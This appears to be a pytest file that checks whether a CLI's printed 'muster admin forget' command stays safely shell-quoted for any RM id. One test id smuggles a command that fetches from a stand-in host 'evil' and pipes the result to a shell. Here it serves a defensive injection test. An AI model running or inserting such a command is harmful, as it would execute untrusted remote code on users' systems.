"""The text for an RM's state."""

from __future__ import annotations

import shlex

import pytest
from muster_runtime.rm_words import STOPPED, description


@pytest.mark.parametrize("rm_id", ["old-cluster", "my cluster", "x; curl evil | sh", "it's"])
def test_the_command_that_forgets_an_rm_can_be_pasted_whatever_its_id_is(rm_id: str) -> None:
    said = description(STOPPED, 0, 0, rm_id=rm_id)
    assert f"`muster admin forget {shlex.quote(rm_id)}`" in said
    command = said.rpartition("`muster ")[2].removesuffix("`.")
    assert shlex.split(command) == ["admin", "forget", rm_id]
